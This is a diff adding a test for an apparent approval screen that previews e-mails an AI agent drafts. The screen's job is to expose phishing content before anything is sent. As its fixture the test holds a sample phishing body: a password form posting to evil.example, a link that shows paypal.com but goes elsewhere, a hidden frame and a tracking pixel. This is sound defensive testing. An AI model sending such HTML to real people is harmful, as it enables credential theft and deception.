@@ -460,6 +460,51 @@ test('approve: send_prospect_email shows recipient, subject and body; Approve se
   host.assertClean('approve (e-mail) after approving');
 });
 
+test('approve: forms, fields, buttons, SVG text, frames, a link elsewhere and a remote image are named before approving', async () => {
+  // Issue 45, finding 4: an e-mail that a text preview would show as its first paragraph only.
+  const body = '<p>Verify your account.</p><form action="http://evil.example/collect"><input type="password" name="pw">'
+    + '<button>Claim your refund</button></form><p>Log in at <a href="http://evil.example/login">https://paypal.com</a>.</p>'
+    + '<svg><text x="0" y="20">Refund approved</text></svg><iframe src="http://evil.example/frame"></iframe>'
+    + '<img src="http://track.example/p.gif" width="1" height="1">';
+  const drafted = await ui.client.callTool({ name: 'generate_outreach_email',
+    arguments: { client_id: 'demo-law', prospect: 'https://legal-resources.example/guides' } });
+  assert.ok(!drafted.isError, JSON.stringify(drafted).slice(0, 300));
+  const before = await gatewayStats(gateway);
+  const { frame, result } = await show('send_prospect_email', { client_id: 'demo-law', email_id: drafted.structuredContent.email_id, body });
+  const sc = result.structuredContent;
+  assert.equal(sc.status, 'confirmation_required', JSON.stringify(result).slice(0, 400));
+  assert.deepEqual(sc.preview.links[0], { text: 'https://paypal.com', href: 'http://evil.example/login', misleading: true });
+  assert.deepEqual(sc.preview.remote_images, ['http://track.example/p.gif']);
+  assert.equal(sc.preview.content_counts.password_field, 1, JSON.stringify(sc.preview));
+  const said = result.content.map((c) => c.text ?? '').join('\n');
+  for (const part of ['a password field', 'Claim your refund', 'http://evil.example/login', 'http://track.example/p.gif']) {
+    assert.ok(said.includes(part), `the text a model reads names ${part}`);
+  }
+
+  // The view's own list, above the buttons, and its placeholders where each part stands.
+  const contents = await textOf(frame, 'contents');
+  for (const part of ['a password field', 'a button "Claim your refund"', 'SVG text "Refund approved"',
+    'an embedded frame showing http://evil.example/frame', 'a form sending to http://evil.example/collect',
+    'The link "https://paypal.com" goes to http://evil.example/login', 'http://track.example/p.gif']) {
+    assert.ok(contents.includes(part), `"What else this contains" names ${part}: ${contents}`);
+  }
+  assert.ok(await frame.evaluate(() => {
+    const list = document.querySelector('[data-testid="contents"]');
+    const approve = document.querySelector('[data-testid="approve"]');
+    return Boolean(list.compareDocumentPosition(approve) & Node.DOCUMENT_POSITION_FOLLOWING);
+  }), 'the list comes before Approve');
+  const shown = await textOf(frame, 'body');
+  for (const part of ['Verify your account.', '[a password field]', '[a button "Claim your refund"]', '[goes to http://evil.example/login]',
+    '[SVG text "Refund approved"]', '[an embedded frame showing http://evil.example/frame]', 'loaded from http://track.example/p.gif']) {
+    assert.ok(shown.includes(part), `the body names ${part}: ${shown}`);
+  }
+  assert.match(await textOf(frame, 'body-note'), /a password field; a button "Claim your refund"/);
+  await assertSanitisedBody(frame);
+  await assertNoExternalAddress(frame, 'approve (phishing e-mail)');
+  assert.equal((await gatewayStats(gateway)).posts, before.posts, 'nothing sent');
+  host.assertClean('approve (phishing e-mail)');
+});
+
 test('approve: text a reader would not see stays out of the view; Decline does nothing', async () => {
   // The sample's planted article (gateway/sample/sample_planted.cpp: demo-law's first blog post):
   // a comment in its title, a display:none instruction in its body.
